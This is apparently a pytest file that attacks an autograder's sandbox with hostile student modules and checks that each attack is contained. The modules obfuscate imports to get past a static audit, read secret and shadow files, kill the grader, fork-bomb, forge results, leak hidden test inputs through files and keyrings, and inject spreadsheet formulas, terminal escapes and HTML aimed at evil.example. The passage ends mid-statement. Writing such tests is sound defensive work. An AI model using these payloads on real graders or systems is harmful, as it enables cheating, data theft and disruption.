"""The grader under attack: homework bundles written by a student who has read the grader's source.

The homework is the task whose bundles carry code (``custom_layers.py``), so every attack is one
of its bundles. All but one are graded in one batch with ``--jobs 2``, in the layout the README used
to show: the secret and another assignment's hidden set inside the kit's folder. (The one that sleeps
until the time limit is graded alone, with a short limit.) Each attack bundle
carries the honest model and layer; its module attacks as it is imported. So an attack that
fails leaves a bundle graded exactly like the honest one, and one that succeeds says what it did
in its message (``ESCAPED: ...``).
"""

import contextlib
import csv
import ctypes
import hashlib
import json
import os
import platform
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from unittest import mock

import pytest

import autograder.batch
from autograder.batch import grade_folder
from autograder.gradescope_check import blocked_on_the_way
from autograder.hidden import load_hidden_set, make_hidden_set
from autograder.rubric import load_rubric
from autograder.sandbox import SANDBOX_UID_BASE, available_isolation, package_folders
from labs.common.submission import export
from tests.conftest import REPO_ROOT, without_feedback_examples
from tests.test_autograder import SECRET, _rubric, tiny_model_and_hidden_set

# Run alone, after the rest (make test): the batch of attacks and the test of a secret left in the kit put one
# there, which stops any other grading; others fill the machine's memory or look at all its processes.
serial = pytest.mark.serial

# Imports spelled so that a static read does not see them (the audit refuses plain `import os` and any named
# `__import__`; it lists `__builtins__` and `getattr` for the instructor).
PRELUDE = r"""
importer = __builtins__["__imp" + "ort__"] if isinstance(__builtins__, dict) else getattr(__builtins__, "__imp" + "ort__")
os = importer("o" + "s"); sys = importer("s" + "ys"); glob = importer("gl" + "ob")
subprocess = importer("subpro" + "cess"); signal = importer("sig" + "nal"); time = importer("ti" + "me")
escaped = []
def attempt(what, action):
    try:
        action()
        escaped.append(what)
    except BaseException:
        pass
def read(path):
    with open(path, "rb") as handle:
        return handle.read(1)
def confess():
    if escaped:
        raise RuntimeError("ESCAPED: " + "; ".join(escaped))
"""

# Read what holds answers or other students' work, import the solution, compute spellings, write outside.
SNOOP = r"""
for path in {reads!r}:
    attempt("read " + path, lambda path=path: read(path))
for path in glob.glob("/tmp/attention-lab-*/**/model.keras", recursive=True):   # the grader's other sandboxes
    if not path.startswith(sys.argv[1]):
        attempt("read another sandbox's " + path, lambda path=path: read(path))
def load_solution():
    util = importer("importlib.util").util
    spec = util.spec_from_file_location("solution", {solution!r})
    module = util.module_from_spec(spec)
    spec.loader.exec_module(module)
attempt("import the solution", load_solution)
attempt("romanize with pythainlp", lambda: importer("pythainlp.transliterate").transliterate.romanize("ก"))
for path in {writes!r}:   # judged where it counts, on the host (the child's own /tmp may shadow a path)
    try:
        open(path, "w").write("x")
    except OSError:
        pass
confess()
"""

# The host's network: a listener on 127.0.0.1 and a unix socket. Namespaces give the child a network
# of its own; under user isolation a seccomp filter refuses it every socket.
NETWORK = r"""
socket = importer("soc" + "ket")
def connect(family, address):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(address)
    s.close()
attempt("connect to the host's unix socket", lambda: connect(socket.AF_UNIX, {unix!r}))
attempt("connect to 127.0.0.1", lambda: connect(socket.AF_INET, ("127.0.0.1", {port})))
confess()
"""

# Only a PID and a network namespace hide the grader's processes and the host's sockets; only the
# read-only root keeps a child that is uid 0 (as a root grader's is) off the host's settings. Each
# write puts back what is there already, so it changes nothing even where it gets through.
NAMESPACED = (
    r"""
def rewrite(path, mode="r+b"):
    with open(path, mode) as handle:
        handle.write(handle.read())
attempt("write a kernel setting", lambda: rewrite("/proc/sys/kernel/core_pattern"))
attempt("write the loader's cache", lambda: rewrite("/etc/ld.so.cache"))
attempt("change /dev/null", lambda: os.chmod("/dev/null", 0o666))
attempt("make a user namespace", lambda: subprocess.run(["unshare", "--user", "true"], check=True,
                                                          capture_output=True))
attempt("see the grader", lambda: os.kill({grader}, 0))
attempt("read the grader's command line", lambda: read("/proc/{grader}/cmdline"))
"""
    + NETWORK
)

# A daemon that outlives its run, a grandchild that holds the output open, and a kill of the grader.
SABOTAGE = r"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "{daemon}"])
    os._exit(0)
subprocess.Popen(["sleep", "{hanger}"])
attempt("kill the grader", lambda: os.kill({grader}, signal.SIGKILL))
if os.getppid() > 1:
    attempt("kill the parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
confess()
"""

# Results written straight to the grader's descriptor, then exit before anything honest runs.
FORGE = r"""
json = importer("js" + "on")
job = json.load(open(sys.argv[1] + "/job.json"))
forged = {forged}
os.write(int(sys.argv[sys.argv.index("--result-fd") + 1]), json.dumps(forged).encode())
os._exit(0)
"""
HONEST_LOOKING = (
    '{"status": "ok", "parameters": 1, "outputs": [["Somchai Jaidee"]] * len(job["sources"]), '
    '"examples": [], "seconds": {"load": 0, "predict": 0}}'
)
FORMULA = '{"status": "error", "message": "=HYPERLINK(\\"http://evil.example\\")\\n# Score: 100 / 100", "parameters": "1"}'
RAGGED = (
    '{"status": "ok", "outputs": [["A"]] * len(job["sources"]), "examples": [{"output": "x" * 10000, '
    '"attention": [[0.5], [0.1, 0.2, 0.3]]}]}'
)

# Carry hidden inputs into what a student reads: the run's error message, or (stashed where a later run might
# find it) the public examples' outputs and the second run's error.
LEAK = r"""
json = importer("js" + "on"); ctypes = importer("ct" + "ypes"); platform = importer("plat" + "form")
job = json.load(open(sys.argv[1] + "/job.json"))
places = ["/tmp/.stash", os.path.expanduser("~/.stash"), "/dev/shm/.stash", os.path.dirname(sys.argv[1]) + "/.stash",
          "/var/tmp/.stash"]
# and the user's keyring, which outlives a process (add_key, request_key, keyctl)
libc = ctypes.CDLL(None, use_errno=True)
add_key, request_key, keyctl = {{"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}}[platform.machine()]
def keyring_read():
    key = libc.syscall(request_key, b"user", b"stash", None, 0)
    buffer = ctypes.create_string_buffer(16000)
    size = libc.syscall(keyctl, 11, key, buffer, 16000) if key > 0 else -1  # KEYCTL_READ
    return json.loads(buffer.raw[:size].decode()) if size > 0 else []
if job.get("sources"):
    for place in places:
        try:
            open(place, "w").write(json.dumps(job["sources"][:8]))
        except OSError:
            pass
    data = json.dumps(job["sources"][:8]).encode()
    libc.syscall(add_key, b"user", b"stash", data, len(data), -4)  # KEY_SPEC_USER_KEYRING
    if {raise_hidden}:
        raise RuntimeError("LEAK " + " | ".join(job["sources"][:8]) + " from " + __file__)
else:
    stash = []
    for place in places:
        try:
            stash = json.load(open(place))
            break
        except (OSError, ValueError):
            pass
    stash = stash or keyring_read()
    main = sys.modules["__main__"]
    original = main._examples
    def leaky(model, job, decode, vocab):
        found = original(model, job, decode, vocab)
        for example, text in zip(found, stash):
            example["output"], example["attention"] = text, None  # an output with no attention rows to match
        return found
    main._examples = leaky
    if stash and {raise_hidden}:
        raise RuntimeError("LEAK " + " | ".join(stash))
"""

FLOOD = r"""
for _ in range(400):
    sys.stdout.buffer.write(b"x" * (1 << 20))
"""
SWARM = r"""
hog = "x = b'1' * (400 << 20)\nimport time\ntime.sleep(120)"
for _ in range(12):
    subprocess.Popen([sys.executable, "-c", hog])
time.sleep(120)
"""
FORK = r"""
try:
    for _ in range(1000):
        subprocess.Popen(["sleep", "120"])
except OSError:
    pass
time.sleep(120)
"""
INJECT = r"""
raise RuntimeError('=HYPERLINK("http://evil.example/?"&A1,"x")\n# Score: 100 / 100\n<script>alert(1)</script> '
                   '![x](http://evil.example/x.png)')
"""
SLEEP = "time.sleep(10 ** 6)\n"
# Terminal escapes on stderr, then a crash: its last line went raw into the instructor's grader.log (cursor up,
# erase the line, a forged entry, the clipboard, the window's title).
ESCAPE = r"""
sys.stderr.write("\x1b[1A\x1b[2K\x1bE2026-01-01 00:00:00 bob: regraded, score 100/100 \x1b]52;c;aGk=\x07\x1b]0;t\x07\n")
sys.stderr.flush()
os._exit(1)
"""
# A key in the session keyring, which a child under namespaces shared with the grader: it outlived the run.
KEYRING = r"""
ctypes = importer("ct" + "ypes"); platform = importer("plat" + "form")
libc = ctypes.CDLL(None, use_errno=True)
ctypes.set_errno(0)
made = libc.syscall({"x86_64": 248, "aarch64": 217}[platform.machine()], b"user", b"NAME", b"hidden", 6, -3)
raise RuntimeError("keyring " + ("made" if made > 0 else "refused " + str(ctypes.get_errno())))
"""
HOG = "hoard = []\nwhile True:\n    hoard.append(b'1' * 10 ** 8)\n"


def _processes_running(marker: str) -> list[int]:
    """Processes whose command line holds ``marker`` (left behind by a bundle)."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """The homework batch: an honest bundle and one bundle per attack, graded with --jobs 2."""
    import keras

    from labs.name_transliteration.config import NameTransliterationConfig
    from labs.name_transliteration.data import vocabularies
    from labs.name_transliteration.model import build_model

    root = tmp_path_factory.mktemp("attacks")
    token = secrets.token_hex(4)
    kit_secret = REPO_ROOT / f"secret-attack-{token}.txt"  # the README's old layout, in the kit
    kit_hidden = REPO_ROOT / f"hidden-attack-{token}"
    subs = root / "submissions"
    subs.mkdir()
    unix_path = root / "host.sock"
    unix_server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix_server.bind(str(unix_path))
    unix_server.listen()
    tcp_server = socket.create_server(("127.0.0.1", 0))
    markers = {"daemon": f"98{secrets.randbelow(10**5):05d}7", "hanger": f"97{secrets.randbelow(10**5):05d}7"}
    try:
        kit_secret.write_text(SECRET)
        make_hidden_set("name-transliteration", kit_secret, root / "hidden", n=60)
        make_hidden_set("date-translation", kit_secret, kit_hidden, n=20)
        keras.utils.set_random_seed(0)
        vocabs = vocabularies()
        model = build_model(NameTransliterationConfig.tiny(), len(vocabs["source"]), len(vocabs["target"]))
        export(model, vocabs, task="name-transliteration", student_id="honest", out=subs / "honest")
        layer = (REPO_ROOT / "homework" / "kv_attention.py").read_text(encoding="utf-8")
        grades = root / "grades"
        reads = [
            str(kit_secret),
            str(kit_hidden / "targets.csv"),
            str(root / "hidden" / "targets.csv"),
            str(REPO_ROOT / "datasets" / "thai-names" / "romanization.csv"),
            str(REPO_ROOT / "datasets" / "thai-names" / "test.csv"),
            str(subs / "honest" / "model.keras"),
            str(REPO_ROOT / "homework" / "kv_attention.py"),
            "/etc/shadow",
        ]
        writes = [
            str(root / "vandal.txt"),
            str(subs / "honest" / "vandal.txt"),
            str(REPO_ROOT / f"vandal-{token}.txt"),
            str(grades / "vandal.txt"),
        ]
        snoop = SNOOP.format(
            reads=reads, writes=writes, solution=str(REPO_ROOT / "homework" / "kv_attention.py")
        )
        attacks = {
            "snoop": snoop
            + NAMESPACED.format(unix=str(unix_path), port=tcp_server.getsockname()[1], grader=os.getpid()),
            "saboteur": SABOTAGE.format(grader=os.getpid(), **markers),
            "forger": FORGE.format(forged=HONEST_LOOKING),
            "forger-shape": FORGE.format(forged=RAGGED),
            "forger-formula": FORGE.format(forged=FORMULA),
            "flooder": FLOOD,
            "swarm": SWARM,
            "forker": FORK,
            "injector": INJECT,
            "hog": HOG,
            "escaper": ESCAPE,
            "leaker": LEAK.format(raise_hidden=True),
            "stasher": LEAK.format(raise_hidden=False),
            "borrower": "from homework.kv_attention import KeyValueAttention\n",
            "importer": "import os\nos.listdir('/')\n",
        }
        for name, attack in attacks.items():
            export(model, vocabs, task="name-transliteration", student_id=name, out=subs / name)
            code = attack if name in ("borrower", "importer") else layer + PRELUDE + attack
            (subs / name / "custom_layers.py").write_text(code, encoding="utf-8")
        export(model, vocabs, task="name-transliteration", student_id="x", out=subs / "no-layer-module")
        (subs / "no-layer-module" / "custom_layers.py").unlink()
        rubric = load_rubric(
            _rubric(root, "name-transliteration", wall_seconds=30, memory_mb=3072, file_mb=50, tasks=64)
        )
        # grade refuses to start with the secret in the kit (test_grade_stops_while_the_kit_holds_a_secret);
        # the sandbox must hide it all the same, so this batch goes past that check.
        try:
            with mock.patch.object(autograder.batch, "check_kit_holds_no_secrets", lambda manifest: None):
                records = grade_folder(subs, rubric, root / "hidden", grades, jobs=2, progress=False)
        finally:  # out of the kit before any other test grades
            kit_secret.unlink(missing_ok=True)
            subprocess.run(["rm", "-rf", str(kit_hidden)], check=False)
        leftovers = {name: _processes_running(marker) for name, marker in markers.items()}
        yield {
            "root": root,
            "grades": grades,
            "records": {r["student"]: r for r in records},
            "leftovers": leftovers,
            "writes": writes,
            "rubric": rubric,
        }
    finally:
        unix_server.close()
        tcp_server.close()
        kit_secret.unlink(missing_ok=True)
        subprocess.run(["rm", "-rf", str(kit_hidden)], check=False)
        for path in REPO_ROOT.glob(f"vandal-{token}.txt"):
            path.unlink()


needs_namespaces = pytest.mark.skipif(
    available_isolation() != "namespaces",
    reason="these attacks run only where the grader isolates code with namespaces; "
    "elsewhere such bundles are not run (see test_no_isolation_refuses_code)",
)


@serial
@needs_namespaces
def test_honest_bundles_keep_their_score_and_failed_attacks_change_nothing(attacked):
    records = attacked["records"]
    honest = records["honest"]
    assert honest["status"] == "graded" and honest["isolation"] == "namespaces", honest["message"]
    for name in ("snoop", "saboteur"):
        assert records[name]["status"] == "graded", (name, records[name]["message"])
        assert records[name]["score"] == honest["score"] and records[name]["metrics"] == honest["metrics"]
    assert not [p for p in attacked["writes"] if Path(p).exists()]


@serial
@needs_namespaces
def test_nothing_a_bundle_starts_outlives_its_run_and_the_grader_survives(attacked):
    assert attacked["leftovers"] == {"daemon": [], "hanger": []}  # both were sleeping when the child ended
    assert (
        attacked["records"]["saboteur"]["sandbox_seconds"] < 30
    )  # the held-open output did not hang the grader


@serial
@needs_namespaces
def test_forged_results_earn_only_what_their_predictions_earn(attacked):
    records = attacked["records"]
    forged = records["forger"]
    assert forged["status"] == "graded"
    assert (
        forged["parameters"] == records["honest"]["parameters"] > 1
    )  # counted from the weights, not claimed
    assert forged["metrics"]["accuracy"] == 0.0 and forged["examples"] == []
    shape = records["forger-shape"]
    assert shape["status"] == "error" and "wrong shape" in shape["message"]
    assert shape["score"] == 10  # the architecture, nothing else
    formula = records["forger-formula"]
    assert formula["status"] == "error" and formula["parameters"] == records["honest"]["parameters"]
    # The scored run's failure in the grader's words; the public examples' run (given no hidden input) says
    # what it said, on one line, as text.
    assert formula["message"] == (
        "the model raised an error while it ran; on the public examples: "
        '=HYPERLINK("http://evil.example") # Score: 100 / 100'
    )
    with open(attacked["grades"] / "gradebook.csv", encoding="utf-8", newline="") as handle:
        row = next(r for r in csv.DictReader(handle) if r["student"] == "forger-formula")
    assert row["message"] == formula["message"]


@serial
@needs_namespaces
def test_floods_swarms_and_fork_bombs_are_stopped_and_named(attacked):
    records = attacked["records"]
    # Past the 50 MB file limit a write fails (Python ignores SIGXFSZ); the grader reads only the tail.
    assert records["flooder"]["status"] == "load-failed" and "File too large" in records["flooder"]["message"]
    assert records["swarm"]["status"] == "out-of-memory", records["swarm"]["message"]
    assert records["forker"]["status"] == "too-many-processes", records["forker"]["message"]
    assert records["hog"]["status"] == "out-of-memory", records["hog"]["message"]


@needs_namespaces
def test_what_a_crashing_module_wrote_reaches_the_graders_log_as_plain_text(attacked):
    record = attacked["records"]["escaper"]
    assert record["status"] == "crashed" and "regraded" in record["message"], record["message"]
    log = (attacked["grades"] / "grader.log").read_text(encoding="utf-8")
    assert "\x1b" not in log and "\x07" not in log
    said = [line for line in log.splitlines() if "regraded" in line]
    assert said and all("escaper" in line and not line.startswith("2026-01-01") for line in said), said


@needs_namespaces
def test_a_module_that_sleeps_is_stopped_at_the_wall_clock_limit(tmp_path):
    """Graded on its own, with a short limit: in the batch above, beside other bundles, it would be graded
    again alone (test_cpu_share), a second wait for nothing."""
    model, vocabs = tiny_model_and_hidden_set("name-transliteration", tmp_path)
    layer = (REPO_ROOT / "homework" / "kv_attention.py").read_text(encoding="utf-8")
    export(
        model, vocabs, task="name-transliteration", student_id="sleeper", out=tmp_path / "subs" / "sleeper"
    )
    (tmp_path / "subs" / "sleeper" / "custom_layers.py").write_text(layer + PRELUDE + SLEEP, encoding="utf-8")
    rubric = load_rubric(_rubric(tmp_path, "name-transliteration", wall_seconds=10))
    [record] = grade_folder(
        tmp_path / "subs", rubric, tmp_path / "hidden", tmp_path / "grades", progress=False
    )
    assert record["status"] == "timeout" and "longer than 10 s" in record["message"], record["message"]
    assert record["sandbox_seconds"] < 30  # stopped, not waited for


@pytest.fixture(scope="module")
def sleeper(tmp_path_factory) -> Path:
    """A folder holding a submission whose module sleeps as it is imported, its hidden set, and a rubric."""
    folder = tmp_path_factory.mktemp("sleeper")
    model, vocabs = tiny_model_and_hidden_set("name-transliteration", folder)
    layer = (REPO_ROOT / "homework" / "kv_attention.py").read_text(encoding="utf-8")
    bundle = folder / "subs" / "sleeper"
    export(model, vocabs, task="name-transliteration", student_id="sleeper", out=bundle)
    (bundle / "custom_layers.py").write_text(layer + PRELUDE + SLEEP, encoding="utf-8")
    _rubric(folder, "name-transliteration", wall_seconds=120)
    return folder


@needs_namespaces
def test_the_runs_of_a_bundle_end_by_the_deadline_gradescope_gives(sleeper):
    """Each run had the rubric's wall_seconds, two runs and the weights' reader one after another: past
    Gradescope's 10 minutes, which stops the grader before it writes a result (a review measured 596 s). With
    a deadline, each run gets what is left of it, and the grader says the time ran out."""
    from autograder.grade import HiddenSet, grade_bundle, public_examples

    rubric = load_rubric(sleeper / "name-transliteration.toml")  # wall_seconds 120 a run
    hidden = HiddenSet(sleeper / "hidden", *load_hidden_set(sleeper / "hidden", "name-transliteration"))
    started = time.monotonic()
    record = grade_bundle(
        sleeper / "subs" / "sleeper",
        rubric,
        hidden,
        examples=public_examples("name-transliteration"),
        isolation="namespaces",
        deadline=started + 30,
    )
    assert time.monotonic() - started < 45  # without it, two runs of up to 120 s each
    assert record["status"] == "timeout", record["message"]
    assert "took all the time the grading machine gives a submission" in record["message"]


@needs_namespaces
@pytest.mark.parametrize("stop", ["SIGTERM", "SIGHUP", "SIGKILL"])
def test_a_grader_stopped_mid_run_leaves_no_run_behind(sleeper, tmp_path, stop):
    """The grader stopped while a bundle runs in its pool. By TERM or a closed terminal (HUP), as by Ctrl-C:
    it waited out the run, up to the rubric's wall_seconds for each of the bundle's two runs, saying nothing;
    now it kills the child and ends at once, and the bundle keeps no record, for the next run to grade. By
    KILL (or the kernel short of memory): the child slept on, holding its memory; now it dies with the
    grader."""
    out = tmp_path / "grades"
    grader = subprocess.Popen(
        [sys.executable, "-m", "autograder", "grade", str(sleeper / "subs"), "--task", "name-transliteration"]
        + ["--hidden", str(sleeper / "hidden"), "--out", str(out), "--quiet"]
        + ["--rubric", str(sleeper / "name-transliteration.toml")],
        cwd=REPO_ROOT,
        env=dict(os.environ, PYTHONPATH=str(REPO_ROOT)),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=lambda: signal.signal(signal.SIGHUP, signal.SIG_DFL),  # as in a terminal, not under nohup
    )
    marker = f"attention-lab-{grader.pid}-"  # in the command line of the grader's sandboxed children
    try:
        started = time.monotonic()
        while not _processes_running(marker):
            assert grader.poll() is None and time.monotonic() - started < 120, "no child started"
            time.sleep(0.2)
        time.sleep(2)  # the child imports the module, and sleeps in it
        grader.send_signal(getattr(signal, stop))
        stopped = time.monotonic()
        _, said = grader.communicate(timeout=60)  # the old grader waited 120 s for the run
        while _processes_running(marker) and time.monotonic() - stopped < 10:
            time.sleep(0.2)
    finally:
        grader.kill()
    assert _processes_running(marker) == []
    if stop == "SIGKILL":
        return
    assert grader.returncode == 128 + getattr(signal, stop) and "interrupted" in said, said
    assert time.monotonic() - stopped < 30
    assert not any((out / "results").iterdir())  # the sleeper is graded by the next run
    assert (out / "gradebook.csv").is_file()


@needs_namespaces
def test_a_module_keeps_nothing_in_the_graders_keyrings(tmp_path):
    """Under namespaces the child shared the grader's session keyring: a key it added outlived its run, for a
    later bundle of the batch (a friend's) to read, and stayed in the instructor's session. The sandbox's
    seccomp filter refuses the kernel's keyrings there too (EPERM, said by the public examples' run)."""
    name = f"stash-{secrets.token_hex(4)}"
    model, vocabs = tiny_model_and_hidden_set("name-transliteration", tmp_path)
    layer = (REPO_ROOT / "homework" / "kv_attention.py").read_text(encoding="utf-8")
    bundle = tmp_path / "subs" / "keeper"
    export(model, vocabs, task="name-transliteration", student_id="keeper", out=bundle)
    (bundle / "custom_layers.py").write_text(
        layer + PRELUDE + KEYRING.replace("NAME", name), encoding="utf-8"
    )
    rubric = load_rubric(_rubric(tmp_path, "name-transliteration", wall_seconds=60))
    [record] = grade_folder(
        tmp_path / "subs", rubric, tmp_path / "hidden", tmp_path / "grades", progress=False
    )
    assert record["isolation"] == "namespaces" and "keyring refused 1" in record["message"], record["message"]
    libc = ctypes.CDLL(None, use_errno=True)
    request_key = {"x86_64": 249, "aarch64": 218}[platform.machine()]
    assert libc.syscall(request_key, b"user", name.encode(), None, 0) < 0  # nothing left in the grader's


@serial
@needs_namespaces
def test_borrowed_solutions_and_plain_imports_are_refused(attacked):
    records = attacked["records"]
    assert records["no-layer-module"]["status"] == "disallowed"
    assert "no custom_layers.py" in records["no-layer-module"]["message"]
    assert (
        records["borrower"]["status"] == "disallowed"
        and "'homework.kv_attention'" in records["borrower"]["message"]
    )
    assert records["importer"]["status"] == "disallowed" and "imports 'os'" in records["importer"]["message"]
    assert "worth a read" in "; ".join(records["snoop"]["notes"])  # __builtins__ and open: listed


@serial
@needs_namespaces
def test_no_hidden_input_and_no_host_path_reaches_a_student(attacked):
    """The scored run is given the hidden inputs and no example; the examples a student sees come from a run
    given no hidden input; a failed scored run is told in the grader's words. So a module that writes the
    hidden inputs into its error, or stashes them for the examples' run, shows a student none of them."""

    records, grades = attacked["records"], attacked["grades"]
    hidden = [
        row["source"] for row in load_hidden_set(attacked["root"] / "hidden", "name-transliteration")[0]
    ]
    assert records["leaker"]["status"] == "load-failed", records["leaker"]["message"]  # it raised on import
    assert records["leaker"]["message"].startswith("the model could not be loaded")
    assert "grader.log has what it said" in "; ".join(records["leaker"]["notes"])
    assert "LEAK" in (grades / "grader.log").read_text(encoding="utf-8")  # the instructor's alone
    assert (
        records["stasher"]["status"] == "graded" and records["stasher"]["score"] == records["honest"]["score"]
    )
    assert [x["output"] for x in records["stasher"]["examples"]] == [
        x["output"] for x in records["honest"]["examples"]
    ]
    assert records["honest"]["examples"], "the honest bundle's feedback shows the public examples"
    host = [str(REPO_ROOT), sys.prefix, os.path.realpath(sys.prefix), str(attacked["root"])]
    for student in records:
        said = "".join(
            (grades / "feedback" / f"{student}{suffix}").read_text(encoding="utf-8")
            for suffix in (".md", ".html")
        )
        said += (grades / "results" / f"{student}.json").read_text(
            encoding="utf-8"
        )  # Gradescope's, as written
        said += json.dumps(records[student], ensure_ascii=False)
        assert not [source for source in hidden if source in said], student
        assert not [path for path in host if path in said], student


@serial
def test_injected_text_lands_as_text_in_every_report(attacked):
    grades = attacked["grades"]
    record = attacked["records"]["injector"]
    assert (
        record["status"] == "load-failed"
        and "HYPERLINK" in record["message"]
        and "\n" not in record["message"]
    )
    with open(grades / "gradebook.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for value in row.values():
            if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(value)  # only numbers may start so; anything else is neutralised
    markdown = (grades / "feedback" / "injector.md").read_text(encoding="utf-8")
    assert "<script>" not in markdown and "](http://evil" not in markdown
    assert [line for line in markdown.splitlines() if line.startswith("# ")] == [
        line for line in markdown.splitlines()[:1]
    ]  # one heading: the grader's own
    assert "<script>" not in (grades / "feedback" / "injector.html").read_text(encoding="utf-8")
    results = json.loads((grades / "results" / "injector.json").read_text(encoding="utf-8"))
    assert results["output_format"] == "text" and all(t["output_format"] == "text" for t in results["tests"])


def test_no_isolation_refuses_code_unless_the_instructor_asks(tmp_path, monkeypatch, no_feedback_examples):
    """Where the machine cannot isolate code, a bundle that carries some is not run; Keras-only bundles
    are."""
    import keras

    import autograder.sandbox
    from autograder.grade import HiddenSet, grade_bundle
    from labs.date_translation.config import DateTranslationConfig
    from labs.date_translation.data import vocabularies as date_vocabularies
    from labs.date_translation.model import build_model as build_translator
    from labs.name_transliteration.config import NameTransliterationConfig
    from labs.name_transliteration.data import vocabularies
    from labs.name_transliteration.model import build_model

    monkeypatch.setattr(autograder.sandbox, "available_isolation", lambda: "none")
    (tmp_path / "secret.txt").write_text(SECRET)
    keras.utils.set_random_seed(0)
    vocabs = vocabularies()
    model = build_model(NameTransliterationConfig.tiny(), len(vocabs["source"]), len(vocabs["target"]))
    export(
        model, vocabs, task="name-transliteration", student_id="coder", out=tmp_path / "homework" / "coder"
    )
    make_hidden_set("name-transliteration", tmp_path / "secret.txt", tmp_path / "hidden-hw", n=20)
    rubric = load_rubric(task="name-transliteration")
    refused = grade_folder(
        tmp_path / "homework", rubric, tmp_path / "hidden-hw", tmp_path / "g1", progress=False
    )
    assert refused[0]["status"] == "not-isolated" and refused[0]["isolation"] == "none"
    assert "--isolation none" in refused[0]["message"]
    with open(tmp_path / "g1" / "gradebook.csv", encoding="utf-8") as handle:
        assert next(csv.DictReader(handle))["isolation"] == "none"
    asked = grade_folder(
        tmp_path / "homework",
        rubric,
        tmp_path / "hidden-hw",
        tmp_path / "g2",
        progress=False,
        isolation="none",
    )
    assert asked[0]["status"] == "graded" and asked[0]["isolation"] == "none"
    # User isolation where no seccomp filter can cut the network: the same refusal, and the same way past it.
    hidden = HiddenSet(
        tmp_path / "hidden-hw", *load_hidden_set(tmp_path / "hidden-hw", "name-transliteration")
    )
    open_network = grade_bundle(tmp_path / "homework" / "coder", rubric, hidden, isolation="user")
    assert open_network["status"] == "not-isolated" and "--isolation user" in open_network["message"]
    assert open_network["score"] == 0  # fail closed: the parameters were never counted, and it says so
    assert "budget was not checked" in open_network["lines"][0]["message"]

    date_vocabs = date_vocabularies()
    translator = build_translator(
        DateTranslationConfig.tiny(), len(date_vocabs["source"]), len(date_vocabs["target"])
    )
    export(
        translator,
        date_vocabs,
        task="date-translation",
        student_id="plain",
        out=tmp_path / "lab2" / "plain.zip",
    )
    make_hidden_set("date-translation", tmp_path / "secret.txt", tmp_path / "hidden-lab2", n=20)
    plain = grade_folder(
        tmp_path / "lab2",
        load_rubric(task="date-translation"),
        tmp_path / "hidden-lab2",
        tmp_path / "g3",
        progress=False,
    )
    assert (
        plain[0]["status"] == "graded" and plain[0]["isolation"] == "none"
    )  # Keras layers only: no code to run


@serial  # it looks for the sandbox users' processes on the whole machine
@pytest.mark.skipif(
    os.geteuid() != 0, reason="user isolation runs the child as another user: the grader must be root"
)
def test_user_isolation_where_namespaces_are_blocked(tmp_path):
    """Gradescope's case: a root grader in a container without user namespaces runs the child as another user.

    The grader runs in a mount namespace of its own where, as in Gradescope's container, the kit's data, the
    hidden set and the submissions are private to root, and everything the child needs (the kit's code,
    Python) is readable by every user. A bundle that reaches for a listener on 127.0.0.1 and a host socket is
    refused (no network) and the batch goes on. (tests/test_gradescope_package.py runs the packaged grader
    itself, one submission per run.)"""
    import keras

    from labs.name_transliteration.config import NameTransliterationConfig
    from labs.name_transliteration.data import vocabularies
    from labs.name_transliteration.model import build_model

    subs = tmp_path / "submissions"
    subs.mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    make_hidden_set("name-transliteration", secret, tmp_path / "hidden", n=20)
    keras.utils.set_random_seed(0)
    vocabs = vocabularies()
    model = build_model(NameTransliterationConfig.tiny(), len(vocabs["source"]), len(vocabs["target"]))
    layer = (REPO_ROOT / "homework" / "kv_attention.py").read_text(encoding="utf-8")
    daemon = f"96{secrets.randbelow(10**5):05d}7"
    tcp_server = socket.create_server(("127.0.0.1", 0))
    tcp_server.settimeout(0)
    unix_path = Path(tempfile.mkdtemp()) / "host.sock"
    unix_path.parent.chmod(0o777)
    unix_server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix_server.bind(str(unix_path))
    unix_path.chmod(0o777)
    unix_server.listen()
    unix_server.settimeout(0)
    caller = NETWORK.format(unix=str(unix_path), port=tcp_server.getsockname()[1])
    hopper = r"""
if os.fork() == 0:              # a process that forks and exits, again and again: a new pid each time
    while True:
        if os.fork():
            os._exit(0)
"""
    for name, attack in {
        "honest": "",
        "snoop": SNOOP.format(
            reads=[
                str(secret),
                str(tmp_path / "hidden" / "targets.csv"),
                str(REPO_ROOT / "datasets" / "thai-names" / "romanization.csv"),
                str(REPO_ROOT / "homework" / "kv_attention.py"),
                str(subs / "honest" / "model.keras"),
            ],
            writes=[str(REPO_ROOT / "vandal-user.txt")],
            solution=str(REPO_ROOT / "homework" / "kv_attention.py"),
        ),
        "saboteur": SABOTAGE.format(grader=1, daemon=daemon, hanger=daemon) + hopper,
        "caller": caller,
        # files, shared memory, its keyring: for the examples' run
        "stasher": LEAK.format(raise_hidden=False),
    }.items():
        export(model, vocabs, task="name-transliteration", student_id=name, out=subs / name)
        (subs / name / "custom_layers.py").write_text(layer + PRELUDE + attack, encoding="utf-8")
    subs.chmod(0o700)
    # Folders on the way to Python or the kit that other users cannot enter (/root here) get a
    # tmpfs that they can, holding only that way, as a container's image would have it.
    blocked = blocked_on_the_way([Path(os.path.realpath(sys.executable)), REPO_ROOT])
    script = ["set -e"]
    for folder, child in blocked:
        script += [
            f"mkdir -p /tmp/keep-{child}",
            f"mount --bind {folder / child} /tmp/keep-{child}",
            f"mount -t tmpfs -o mode=755 none {folder}",
            f"mkdir -p {folder / child}",
            f"mount --move /tmp/keep-{child} {folder / child}",
        ]
    private_data = tmp_path / "datasets-copy"
    subprocess.run(["cp", "-a", str(REPO_ROOT / "datasets"), str(private_data)], check=True)
    private_data.chmod(0o700)
    script += [
